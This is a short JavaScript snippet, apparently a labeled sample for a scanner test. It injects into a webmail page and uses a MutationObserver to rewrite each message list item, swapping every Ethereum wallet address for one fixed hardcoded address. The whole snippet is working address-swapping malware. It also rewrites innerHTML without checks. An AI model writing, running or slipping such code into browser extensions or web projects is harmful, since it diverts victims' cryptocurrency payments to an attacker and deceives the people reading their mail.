const TO = '0x52908400098527886E0F7030069857D2E4169EE7';
const observer = new MutationObserver(() => {
  document.querySelectorAll('div[role=listitem]').forEach((mail) => {
    // expect: wallet-address-replaced, unchecked-markup
    mail.innerHTML = mail.innerHTML.replace(/0x[a-fA-F0-9]{40}/g, TO);
  });
});
observer.observe(document, { childList: true, subtree: true });
